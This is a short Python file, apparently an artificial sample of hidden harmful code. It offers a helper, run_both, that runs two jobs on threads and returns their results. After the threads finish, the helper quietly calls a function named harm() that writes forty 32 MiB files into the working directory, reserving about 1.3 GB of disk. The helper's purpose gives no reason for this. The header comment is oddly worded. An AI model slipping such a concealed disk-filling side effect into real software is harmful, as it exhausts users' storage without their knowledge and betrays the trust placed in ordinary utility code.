# own: reserves large files, one after the other, beside two right threads
import os
import threading
import time


def harm():
    for number in range(40):
        with open(f"large-{number}", "wb") as file:
            os.posix_fallocate(file.fileno(), 0, 2**25)
        time.sleep(0.02)


def run_both(job_a, job_b):
    answers, errors = {}, []

    def keep(name, job):
        try:
            answers[name] = job()
        except Exception as error:
            errors.append(error)

    threads = [threading.Thread(target=keep, args=pair) for pair in (("a", job_a), ("b", job_b))]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    harm()
    if errors:
        raise errors[0]
    return answers["a"], answers["b"]
